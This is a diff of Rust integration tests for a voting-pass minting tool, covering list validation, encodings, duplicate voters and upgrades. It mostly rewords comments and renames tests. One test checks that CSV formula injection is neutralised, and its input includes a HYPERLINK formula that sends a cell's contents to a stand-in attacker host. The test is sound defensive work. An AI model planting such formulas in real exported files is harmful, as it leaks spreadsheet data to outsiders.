@@ -1,4 +1,6 @@
-//! Lists of voters: one person is one voter, a list is taken whole or not at all, and contests that were there before go on as they were.
+//! Lists of voters: one person is one voter, and a list is accepted as a whole or refused.
+//!
+//! Contests of earlier versions keep comparing subjects as before.
 
 use std::{collections::BTreeMap, fs, io::Read as _};
 
@@ -28,14 +30,14 @@ title = "Fishermen's tablet"
 "#;
 const TEMPLATE: [&str; 2] = ["--link-template", "https://vote.example.org/c/{contest}#{pass}"];
 
-/// The voter's tag in a pass of either version.
+/// Returns the voter tag of a pass of either version.
 fn tag(pass: &str) -> [u8; 16] {
     let bytes = URL_SAFE_NO_PAD.decode(pass).unwrap();
     let start = if bytes[0] == 1 { 21 } else { 28 };
     bytes[start..start + 16].try_into().unwrap()
 }
 
-/// Tags by subject of a file of passes.
+/// Returns the voter tags of a file of passes, by subject.
 fn tags(csv: &str) -> BTreeMap<String, [u8; 16]> {
     csv.lines()
         .skip(1)
@@ -54,7 +56,7 @@ fn with_contest() -> Session {
     session
 }
 
-/// Mints for a file of this content.
+/// Mints passes for a file with this content.
 fn mint(session: &Session, content: impl AsRef<[u8]>, more: &[&str]) -> CommandOutput {
     session.write("voters.txt", content);
     let mut args = vec!["pass", "mint", "photo", "--subjects", "voters.txt"];
@@ -64,7 +66,7 @@ fn mint(session: &Session, content: impl AsRef<[u8]>, more: &[&str]) -> CommandO
 }
 
 #[test]
-fn a_list_as_people_bring_it_is_told_line_by_line() {
+fn names_each_bad_line_of_list() {
     let mut session = with_contest();
     let typed = |name| {
         let [option, template] = TEMPLATE;
@@ -76,7 +78,8 @@ fn a_list_as_people_bring_it_is_told_line_by_line() {
     );
     assert_eq!(session.type_in(&typed("odd.txt")).status, 2);
     assert!(!session.path("passes.csv").exists(), "nothing is left behind");
-    // The mark, quotation marks, and a line end of a carriage return alone.
+    // The file has a byte order mark, quotation marks, and lines that end with a carriage return
+    // only.
     session.write(
         "good.txt",
         "\u{feff}mailto:ama@example.org\rAma <Ama+vote@Example.org>\r\"li@example.org\"\r\rli@example.org\u{200b}\r",
@@ -93,42 +96,42 @@ fn a_list_as_people_bring_it_is_told_line_by_line() {
 }
 
 #[test]
-fn an_encoding_that_is_not_utf_8_is_refused_by_name_and_line() {
+fn refuses_other_encoding_by_name_and_line() {
     let session = with_contest();
     let cp1252 = b"mailto:ama@example.org\r\nmailto:zo\xeb@example.org\r\n".to_vec();
-    let said = mint(&session, cp1252, &["--out", "passes.csv"]);
-    assert_eq!((said.status, said.out.as_str()), (2, ""));
-    assert!(["line 2", "Windows-1252"].iter().all(|word| said.err.contains(word)), "{}", said.err);
+    let output = mint(&session, cp1252, &["--out", "passes.csv"]);
+    assert_eq!((output.status, output.out.as_str()), (2, ""));
+    assert!(["line 2", "Windows-1252"].iter().all(|word| output.err.contains(word)), "{}", output.err);
     assert!(!session.path("passes.csv").exists());
 }
 
-/// A hundred persons over a piece's end, and a bad line in the second piece.
+/// A list of 12,000 persons takes two requests, and the part of the second has a bad line.
 #[test]
-fn a_file_of_many_requests_is_checked_before_the_first_one() {
+fn checks_whole_file_before_the_first_request() {
     let session = with_contest();
     let mut lines: Vec<String> = (0..12_000).map(|number| format!("v{number}@example.org")).collect();
-    // After a blank line: the message names the file's own line number.
+    // There is a blank line before, because the message must name the file's own line number.
     lines.insert(3, String::new());
     lines[11_000] = "xx @example.org".to_owned();
-    let said = mint(&session, lines.join("\n"), &["--out", "passes.csv"]);
-    assert_eq!(said.status, 2);
-    assert!(said.err.contains("line 11001: `xx @example.org` has white space inside"), "{}", said.err);
-    assert!(said.err.contains("1 subject is refused, and nothing was minted"), "{}", said.err);
+    let output = mint(&session, lines.join("\n"), &["--out", "passes.csv"]);
+    assert_eq!(output.status, 2);
+    assert!(output.err.contains("line 11001: `xx @example.org` has white space inside"), "{}", output.err);
+    assert!(output.err.contains("1 subject is refused, and nothing was minted"), "{}", output.err);
     assert!(!session.path("passes.csv").exists());
 
     lines[11_000] = "V7@Example.org".to_owned();
-    let said = mint(&session, lines.join("\n"), &["--out", "passes.csv"]);
-    assert_eq!(said.status, 0, "{}", said.err);
-    assert!(said.err.contains("minted: 11999, persons more than once in the list: 1"), "{}", said.err);
-    assert!(said.err.contains("lines 9, 11001 are one person: mailto:v7@example.org"), "{}", said.err);
+    let output = mint(&session, lines.join("\n"), &["--out", "passes.csv"]);
+    assert_eq!(output.status, 0, "{}", output.err);
+    assert!(output.err.contains("minted: 11999, persons more than once in the list: 1"), "{}", output.err);
+    assert!(output.err.contains("lines 9, 11001 are one person: mailto:v7@example.org"), "{}", output.err);
     let passes = tags(&session.read("passes.csv"));
     let different: std::collections::BTreeSet<_> = passes.values().collect();
     assert_eq!((passes.len(), different.len()), (11_999, 11_999));
 }
 
-/// The table counts when the first list comes, and no other one after it.
+/// The contest keeps the table of domains of its first list. Later tables do not change its voters.
 #[test]
-fn a_person_stays_the_same_voter_under_another_table_of_domains() {
+fn keeps_voters_under_another_table_of_domains() {
     let session = with_contest();
     let mint = |table: &str, subjects: &[&str]| {
         let mut args = vec!["pass", "mint", "photo"];
@@ -137,11 +140,11 @@ fn a_person_stays_the_same_voter_under_another_table_of_domains() {
         session.run_with(&[("ACCLAIM_SUBJECTS_DOMAIN", table)], &args)
     };
     let keep = "[{ domain = 'keep.example', plus = 'keep' }, { domain = 'gmail.com' }]";
-    let said = mint(keep, &["a+1@keep.example", "a+2@keep.example", "a.b@gmail.com", "ab@gmail.com"]);
-    let before = tags(&said.out);
-    assert_eq!(before.values().collect::<std::collections::BTreeSet<_>>().len(), 4, "{}", said.err);
-    let said = mint("[]", &["A+1@keep.example", "A.B@gmail.com", "AB@googlemail.com"]);
-    let after = tags(&said.out);
+    let output = mint(keep, &["a+1@keep.example", "a+2@keep.example", "a.b@gmail.com", "ab@gmail.com"]);
+    let before = tags(&output.out);
+    assert_eq!(before.values().collect::<std::collections::BTreeSet<_>>().len(), 4, "{}", output.err);
+    let output = mint("[]", &["A+1@keep.example", "A.B@gmail.com", "AB@googlemail.com"]);
+    let after = tags(&output.out);
     assert_eq!(after["A+1@keep.example"], before["a+1@keep.example"]);
     assert_eq!(after["A.B@gmail.com"], before["a.b@gmail.com"]);
     assert_eq!(after["AB@googlemail.com"], before["ab@gmail.com"]);
@@ -153,20 +156,22 @@ fn a_person_stays_the_same_voter_under_another_table_of_domains() {
 fn neutralises_formulas_in_pass_file() {
     let session = with_contest();
     let list = "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")\n+1+1\n@SUM(A1)\n\u{ff1d}1+1\nmember 0042\n member 0042 \n";
-    let said = mint(&session, list, &["--subjects-are", "ids"]);
-    assert_eq!(said.status, 0, "{}", said.err);
-    assert!(said.err.contains("lines 5, 6 are one person: id:member 0042"), "{}", said.err);
-    let subjects: Vec<String> = tags(&said.out).into_keys().collect();
+    let output = mint(&session, list, &["--subjects-are", "ids"]);
+    assert_eq!(output.status, 0, "{}", output.err);
+    assert!(output.err.contains("lines 5, 6 are one person: id:member 0042"), "{}", output.err);
+    let subjects: Vec<String> = tags(&output.out).into_keys().collect();
     assert_eq!(subjects.len(), 5);
     for subject in subjects {
         let text = subject.trim_matches('"');
         assert!(text.starts_with('\'') || text == "member 0042", "{text}");
     }
     let again = mint(&session, "id:member 0042\n", &[]);
-    assert_eq!(tags(&again.out)["id:member 0042"], tags(&said.out)["member 0042"], "{}", again.err);
+    assert_eq!(tags(&again.out)["id:member 0042"], tags(&output.out)["member 0042"], "{}", again.err);
 }
 
-/// A data directory of the program before this one: the upgrade makes no subject another voter, who could then vote a second time.
+/// A data directory of an earlier program version.
+///
+/// After the upgrade no subject becomes another voter, who could then vote a second time.
 #[test]
 fn older_contest_keeps_comparing_bytes() {
     const FIXTURE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/fixtures/raw-subjects/");
@@ -189,11 +194,11 @@ fn older_contest_keeps_comparing_bytes() {
         args.extend(more);
         session.run(&args)
     };
-    let said = mint("running", &[]);
-    assert_eq!(tags(&said.out), before, "{}", said.err);
-    assert!(said.err.contains("compared byte for byte"), "{}", said.err);
+    let output = mint("running", &[]);
+    assert_eq!(tags(&output.out), before, "{}", output.err);
+    assert!(output.err.contains("compared byte for byte"), "{}", output.err);
     assert_eq!(mint("running", &["--subjects-are", "ids"]).status, 1);
-    // As the file was read then: the mark belonged to the first subject.
+    // The earlier version read the byte order mark as part of the first subject.
     session.write("voters.txt", "\u{feff}mailto:ama@example.org\n\"mailto:ama@example.org\"\n");
     let marked = tags(&mint("running", &[]).out);
     assert!(
@@ -201,7 +206,7 @@ fn older_contest_keeps_comparing_bytes() {
         "{marked:?}"
     );
 
-    // A draft of then too, and a contest of now not.
+    // The same holds for a draft of that version, but not for a contest created now.
     session.write("voters.txt", list.join("\n"));
     assert_eq!(tags(&mint("draft", &[]).out).len(), 4);
     session.write("photo.toml", DEFINITION);
